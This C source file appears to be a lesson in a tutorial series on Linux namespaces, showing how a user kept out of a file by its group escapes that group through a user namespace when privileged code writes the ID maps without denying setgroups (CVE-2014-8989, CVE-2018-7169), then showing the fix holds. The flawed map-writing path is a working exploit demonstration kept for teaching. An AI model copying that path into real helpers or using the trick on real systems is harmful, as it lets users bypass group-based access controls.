/* keptout.c - somebody whom a group keeps out of a file leaves that group.
 *
 * The file has mode 0604: everybody may read it but its group, and the attacker is in that. He
 * makes a user namespace in which he is root, where he would be allowed to leave all groups.
 * Before: somebody with a privilege writes his maps, and leaves setgroups as it is; this was the
 * kernel's hole CVE-2014-8989, and newgidmap's CVE-2018-7169. After: users_write_map writes them.
 *
 *     session (root) ── fork ──► attacker (nobody, in the group) ── clone ──► root inside
 *
 * Read on: user_namespaces(7), "The /proc/pid/setgroups file".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include "../c04-namespaces/start.h"
#include "cleanup.h"
#include "keptout.h"
#include "namespaces.h"
#include "rootless.h"
#include "users.h"

enum { NOBODY = 65534, KEPT_OUT = 60604, GOT_OUT = 42 };

/* Says what a call returned: 0, or its errno. Returns whether it was 0. */
static bool tell(const char *call, int result)
{
    printf("    %-46s %s\n", call, result == -1 ? strerror(errno) : "works");
    return result != -1;
}

static bool tell_open(const char *call)
{
    CLEANUP_CLOSE int file = open("kept-out", O_RDONLY | O_CLOEXEC);

    return tell(call, file);
}

static int status_of(pid_t pid)
{
    int status;

    while (waitpid(pid, &status, 0) == -1) {
        if (errno != EINTR)
            return 1;
    }
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* Root inside, once the maps are written. */
static _Noreturn void be_root(int go)
{
    char byte;

    if (TEMP_FAILURE_RETRY(read(go, &byte, 1)) != 1)
        _exit(1);
    tell("setgroups(0, NULL), as root inside", setgroups(0, NULL));
    bool out = tell_open("open(FILE), as root inside");
    fflush(stdout);
    _exit(out ? GOT_OUT : 0);
}

/* The attacker. Tells the pid of root inside to REPORT, and ends as that one does. */
static _Noreturn void be_nobody(struct tutor *tutor, int report, int go)
{
    const struct namespaces_wish wish = {.flags = CLONE_NEWUSER, .cgroup = -1};
    struct process root = {.pidfd = -1};
    gid_t group = KEPT_OUT;

    if (setgroups(1, &group) == -1 || setresgid(NOBODY, NOBODY, NOBODY) == -1 ||
        setresuid(NOBODY, NOBODY, NOBODY) == -1)
        _exit(tutor_error(tutor, "become nobody: %s", strerror(errno)));
    tell_open("open(FILE), as nobody, in its group");
    fflush(stdout);
    pid_t pid = namespaces_clone(&wish, &root);
    if (pid == 0)
        be_root(go);
    if (pid == -1)
        _exit(tutor_error(tutor, "namespaces_clone: %s", strerror(errno)));
    if (write(report, &pid, sizeof pid) != sizeof pid)
        _exit(1);
    close(report);
    _exit(status_of(pid));
}

/* The maps of root inside, by the session, which has every privilege. */
static int write_maps(struct tutor *tutor, pid_t pid, bool closed)
{
    const struct users_map one = {0, NOBODY, 1};
    char path[64];
    int result = 0;

    if (closed)
        result = users_write_map(pid, &one, 1, &one, 1);
    for (int i = 0; !closed && i < 2 && result == 0; i++) {
        (void)snprintf(path, sizeof path, "/proc/%d/%s", pid, i ? "uid_map" : "gid_map");
        result = rootless_write(path, "0 65534 1");
    }
    if (result == -1)
        return tutor_error(tutor, "%s: %s (errno %d)", closed ? "users_write_map" : path,
                           strerror(errno), errno);
    return 0;
}

static int try_once(struct tutor *tutor, bool closed)
{
    int report[2], go[2];
    pid_t root = 0;

    if (pipe2(report, O_CLOEXEC) == -1)
        return tutor_error(tutor, "pipe2: %s", strerror(errno));
    if (pipe2(go, O_CLOEXEC) == -1) {
        close(report[0]);
        close(report[1]);
        return tutor_error(tutor, "pipe2: %s", strerror(errno));
    }
    if (closed)
        printf("after: users_write_map (%s)\n", start_whose("users_write_map"));
    else
        puts("before: gid_map and uid_map, and nothing else");
    fflush(stdout);
    pid_t attacker = fork();
    if (attacker == 0) {
        close(go[1]); /* or root inside would not see the end, if there are no maps */
        be_nobody(tutor, report[1], go[0]);
    }
    close(report[1]);
    int status = attacker == -1 ? tutor_error(tutor, "fork: %s", strerror(errno)) : 0;
    if (status == 0 && TEMP_FAILURE_RETRY(read(report[0], &root, sizeof root)) > 0)
        status = write_maps(tutor, root, closed);
    if (status == 0)
        (void)!write(go[1], "", 1); /* both ends are open here: it always works */
    close(go[1]);
    int end = attacker == -1 ? 1 : status_of(attacker);
    close(go[0]);
    close(report[0]);
    if (status != 0 || (end != 0 && end != GOT_OUT))
        return 1;
    puts(end == GOT_OUT ? "  OUT" : "  held");
    return 0;
}

/* Stands in a directory that all may enter, with the file in it. */
static int set_stage(struct tutor *tutor)
{
    const char *directory = tutor_directory(tutor);
    char path[PATH_MAX];

    if (!directory)
        return tutor_error(tutor, "a directory: %s", strerror(errno));
    (void)snprintf(path, sizeof path, "%s/kept", directory); /* a short path */
    if ((mkdir(path, 0755) == -1 && errno != EEXIST) || chmod(path, 0755) == -1 ||
        chdir(path) == -1)
        return tutor_error(tutor, "%s: %s", path, strerror(errno));
    CLEANUP_CLOSE int file = open("kept-out", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (file == -1 || fchown(file, 0, KEPT_OUT) == -1 || fchmod(file, 0604) == -1)
        return tutor_error(tutor, "a file for group %d: %s", KEPT_OUT, strerror(errno));
    return 0;
}

int keptout_try(struct tutor *tutor)
{
    if (geteuid() != 0)
        return tutor_error(tutor, "groups: takes root, to put somebody into a group");
    CLEANUP_CLOSE int here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (here == -1)
        return tutor_error(tutor, "the working directory: %s", strerror(errno));
    int status = set_stage(tutor);
    for (int closed = 0; closed < 2 && status == 0; closed++)
        status = try_once(tutor, closed);
    if (fchdir(here) == -1)
        return tutor_error(tutor, "the working directory: %s", strerror(errno));
    return status;
}
